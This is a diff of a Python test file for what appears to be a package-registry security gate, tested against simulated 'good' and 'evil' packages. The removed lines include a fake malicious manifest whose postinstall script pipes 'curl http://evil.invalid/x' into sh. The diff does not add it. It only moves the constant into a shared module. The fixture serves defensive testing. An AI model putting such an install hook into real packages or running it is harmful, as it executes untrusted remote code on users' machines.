@@ -12,10 +12,9 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from tests.gate.running import RunningGate, running_gate
+from tests.gate.running import FETCHES, RunningGate
 from tests.registry_simulator import RegistrySimulator
 
-FETCHES = {"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}
 EVIL = b"/evil/-/evil-1.0.0.tgz"
 GOOD = b"/good/-/good-1.0.0.tgz"
 SECOND = b"GET /second HTTP/1.1\r\nHost: gate\r\n\r\n"
@@ -27,12 +26,6 @@ def upstream() -> Iterator[RegistrySimulator]:
         registry.publish("good", "1.0.0")
         registry.publish("evil", "1.0.0", manifest=FETCHES)
         yield registry
-
-
-@pytest.fixture(scope="module")
-def gate(upstream: RegistrySimulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGate]:
-    with running_gate(tmp_path_factory.mktemp("gate"), upstream.url) as running:
-        yield running
 
 
 def sent(gate: RunningGate, data: bytes) -> bytes:
